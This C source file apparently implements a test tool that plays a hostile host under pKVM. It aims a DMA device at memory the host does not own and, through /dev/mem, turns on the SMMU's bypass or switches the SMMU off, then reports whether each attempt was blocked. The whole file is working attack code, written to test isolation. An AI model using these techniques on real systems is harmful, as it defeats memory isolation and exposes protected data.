// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile host: points a device at memory that is not the host's.
 *
 * Runs under iommu.passthrough=1, where a bus address is a physical address.
 * Each mode prints one line of key=value words and exits with EXIT_BLOCKED if
 * the device was stopped everywhere, EXIT_REACHED if it got through anywhere,
 * EXIT_BROKEN if that can't be said (edu.h).
 *
 * A stopped read brings zeros, so reads have to be aimed at memory that holds
 * something else, and the same read has to be seen to bring it on a kernel
 * that doesn't stop it. A write is read back by the device, so the mode says
 * that it landed only if reads get there too. To be sure, look at the same
 * address from outside of the machine.
 *
 * The register modes change the host's SMMU behind the back of its driver and
 * put things back. That needs no help from the driver: its queues are where
 * they were and nothing is in them.
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "edu.h"

#define SMMU_SIZE	0x20000
#define SMMU_IDRS	6
#define SMMU_CR0	0x20
#define SMMU_CR0ACK	0x24
#define SMMU_GBPA	0x44
#define GBPA_UPDATE	0x80000000

#define TIMEOUT_MS	1000

/* To be looked for from outside of the machine, too. */
static const char pattern[] = "pKVM-DMA-ATTACK!";

static char *smmu;

static void smmu_map(__u64 phys)
{
	int fd = open("/dev/mem", O_RDWR | O_SYNC);

	if (fd < 0)
		err(EXIT_BROKEN, "/dev/mem");
	smmu = mmap(NULL, SMMU_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, phys);
	if (smmu == MAP_FAILED)
		err(EXIT_BROKEN, "/dev/mem at %#llx", phys);
	close(fd);
}

static __u32 smmu_get(unsigned int reg)
{
	return mmio_read32(smmu + reg);
}

/* False if it was not acknowledged in time. That is for the caller to judge. */
static bool smmu_set_cr0(__u32 val)
{
	int ms;

	mmio_write32(smmu + SMMU_CR0, val);
	for (ms = 0; smmu_get(SMMU_CR0ACK) != val; ms++) {
		if (ms == TIMEOUT_MS)
			return false;
		usleep(1000);
	}
	return true;
}

static void smmu_set_gbpa(__u32 val)
{
	int ms;

	mmio_write32(smmu + SMMU_GBPA, val | GBPA_UPDATE);
	for (ms = 0; smmu_get(SMMU_GBPA) & GBPA_UPDATE && ms < TIMEOUT_MS; ms++)
		usleep(1000);
}

static int attack_self(void)
{
	bool works = edu_works();

	printf("self works=%d\n", works);
	return works ? EXIT_BLOCKED : EXIT_REACHED;
}

static int attack_read(__u64 phys, __u64 len)
{
	unsigned char buf[EDU_BUF_SIZE];
	size_t n, nonzero = 0;
	__u64 done;

	for (done = 0; done < len; done += n) {
		n = len - done < sizeof(buf) ? len - done : sizeof(buf);
		edu_read(phys + done, buf, n);
		nonzero += count_nonzero(buf, n);
	}
	printf("read phys=%#llx bytes=%llu nonzero=%zu\n", phys, len, nonzero);
	return nonzero ? EXIT_REACHED : EXIT_BLOCKED;
}

static int attack_write(__u64 phys)
{
	char got[sizeof(pattern) - 1];
	bool landed;

	edu_write(phys, pattern, sizeof(got));
	edu_read(phys, got, sizeof(got));
	landed = !memcmp(got, pattern, sizeof(got));
	printf("write phys=%#llx bytes=%zu landed=%d\n", phys, sizeof(got), landed);
	return landed ? EXIT_REACHED : EXIT_BLOCKED;
}

/* In two steps, as the device may lose its way to our own memory in between. */
static int late_load(void)
{
	edu_write(phys_addr(own_page()), pattern, sizeof(pattern) - 1);
	return EXIT_BLOCKED;
}

static int late_write(__u64 phys)
{
	edu_store_later(phys, sizeof(pattern) - 1);
	return EXIT_BLOCKED;
}

/*
 * The SMMU's registers as a DMA target: read two ID registers, then open the
 * bypass and turn the SMMU off.
 *
 * The CPU may be shown an emulated SMMU, where the change can't be seen. Then
 * the effect can: had both writes landed, @victim would lie open, and had only
 * the second one, nothing would pass, which is EXIT_BROKEN, as it goes for DMA
 * to our own memory as well.
 */
static int attack_mmio(__u64 phys, __u64 victim)
{
	const __u32 bypass = GBPA_UPDATE, off = 0;
	unsigned char page[EDU_BUF_SIZE];
	__u32 idr0, idr1, cr0, gbpa;
	size_t nonzero;
	bool landed;

	smmu_map(phys);
	cr0 = smmu_get(SMMU_CR0);
	gbpa = smmu_get(SMMU_GBPA);

	/* 4 bytes at a time: the registers are no wider. */
	edu_read(phys, &idr0, sizeof(idr0));
	edu_read(phys + 4, &idr1, sizeof(idr1));

	edu_write(phys + SMMU_GBPA, &bypass, sizeof(bypass));
	edu_write(phys + SMMU_CR0, &off, sizeof(off));
	landed = smmu_get(SMMU_GBPA) != gbpa || smmu_get(SMMU_CR0) != cr0;
	if (landed) {
		smmu_set_gbpa(gbpa);
		smmu_set_cr0(cr0);
	}

	edu_read(victim, page, sizeof(page));
	nonzero = count_nonzero(page, sizeof(page));
	printf("mmio phys=%#llx idr0=%#x idr1=%#x landed=%d victim-nonzero=%zu\n",
	       phys, idr0, idr1, landed, nonzero);
	return idr0 || idr1 || landed || nonzero ? EXIT_REACHED : EXIT_BLOCKED;
}

static int regs_dump(void)
{
	unsigned int i;

	printf("regs cr0=%#x cr0ack=%#x gbpa=%#x", smmu_get(SMMU_CR0),
	       smmu_get(SMMU_CR0ACK), smmu_get(SMMU_GBPA));
	for (i = 0; i < SMMU_IDRS; i++)
		printf(" idr%u=%#x", i, smmu_get(i * 4));
	printf("\n");
	return EXIT_BLOCKED;
}

/* Let everything bypass that has no translation, and if @off, have none. */
static int regs_open(bool off, __u64 victim)
{
	__u32 cr0 = smmu_get(SMMU_CR0), gbpa = smmu_get(SMMU_GBPA);
	unsigned char page[EDU_BUF_SIZE];
	bool acked = true, restored = true;
	size_t nonzero;

	edu_poison();
	smmu_set_gbpa(0);
	if (off)
		acked = smmu_set_cr0(0);
	edu_load(victim, sizeof(page));
	if (off)
		restored = smmu_set_cr0(cr0);
	smmu_set_gbpa(gbpa);
	if (!restored)
		errx(EXIT_BROKEN, "the SMMU does not come back: CR0 %#x, CR0ACK %#x",
		     smmu_get(SMMU_CR0), smmu_get(SMMU_CR0ACK));

	/* Only now, as DMA to our memory may have been stopped in between. */
	if (!edu_get(page, sizeof(page)))
		errx(EXIT_BROKEN, "edu can't reach our own memory any more");
	nonzero = count_nonzero(page, sizeof(page));
	printf("regs off=%d acked=%d victim=%#llx bytes=%zu nonzero=%zu\n", off, acked,
	       victim, sizeof(page), nonzero);
	return nonzero ? EXIT_REACHED : EXIT_BLOCKED;
}

static __u64 parse(const char *arg)
{
	__u64 val;
	char *end;

	val = strtoull(arg, &end, 0);
	if (end == arg || *end)
		errx(EXIT_BROKEN, "not a number: %s", arg);
	return val;
}

static int print_usage(void)
{
	fputs("usage: dma-attack self\n"
	      "       dma-attack read PHYS LEN\n"
	      "       dma-attack write PHYS\n"
	      "       dma-attack late-load\n"
	      "       dma-attack late-write PHYS\n"
	      "       dma-attack mmio SMMU VICTIM\n"
	      "       dma-attack regs dump SMMU\n"
	      "       dma-attack regs gbpa|smmuen SMMU VICTIM\n", stderr);
	return EXIT_BROKEN;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	if (!strcmp(mode, "regs") && argc >= 4) {
		smmu_map(parse(argv[3]));
		if (!strcmp(argv[2], "dump") && argc == 4)
			return regs_dump();
		if (argc != 5)
			return print_usage();
		edu_open();
		if (!strcmp(argv[2], "gbpa"))
			return regs_open(false, parse(argv[4]));
		if (!strcmp(argv[2], "smmuen"))
			return regs_open(true, parse(argv[4]));
		return print_usage();
	}

	edu_open();
	if (!strcmp(mode, "self") && argc == 2)
		return attack_self();
	if (!strcmp(mode, "read") && argc == 4)
		return attack_read(parse(argv[2]), parse(argv[3]));
	if (!strcmp(mode, "write") && argc == 3)
		return attack_write(parse(argv[2]));
	if (!strcmp(mode, "late-load") && argc == 2)
		return late_load();
	if (!strcmp(mode, "late-write") && argc == 3)
		return late_write(parse(argv[2]));
	if (!strcmp(mode, "mmio") && argc == 4)
		return attack_mmio(parse(argv[2]), parse(argv[3]));
	return print_usage();
}
